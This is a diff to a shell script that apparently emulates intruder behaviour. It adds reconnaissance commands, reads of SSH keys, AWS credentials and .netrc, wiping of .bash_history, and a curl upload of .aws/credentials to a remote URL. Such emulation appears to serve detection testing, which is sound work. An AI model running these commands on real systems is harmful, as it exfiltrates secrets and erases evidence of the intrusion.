@@ -1,10 +1,14 @@
 
 # What the shell emulations share, after the functions of steps.sh.
 groundwork() {
-    rnd 0 3
+    rnd 0 2
     if [ "$r" -lt 2 ]; then uname -a; id; cat /etc/passwd /proc/version; fi > /dev/null
+    rnd 0 1
     if [ "$r" = 1 ]; then curl -s -o /dev/null "$url/new?size=16"; fi
-    if [ "$r" = 2 ]; then cat .ssh/id_ed25519 .aws/credentials > /dev/null; fi
+    rnd 0 1
+    if [ "$r" = 1 ]; then cat .ssh/id_ed25519 .aws/credentials .netrc > /dev/null; fi
+    rnd 0 2
+    if [ "$r" = 0 ]; then : > .bash_history; fi
 }
 
 # A copy of the script in a hidden folder, made executable; its path is in $copy.
@@ -20,6 +24,6 @@ report() {
     rnd 2 5
     curl -s -o /dev/null "$url/alive-[1-$r]?size=32"
     rnd 0 1
-    [ "$r" = 0 ] || curl -s -o /dev/null -T .aws/credentials "$url/put"
+    [ "$r" = 0 ] || curl -s -H Expect: -o /dev/null -T .aws/credentials "$url/put"
     : > .bash_history
 }
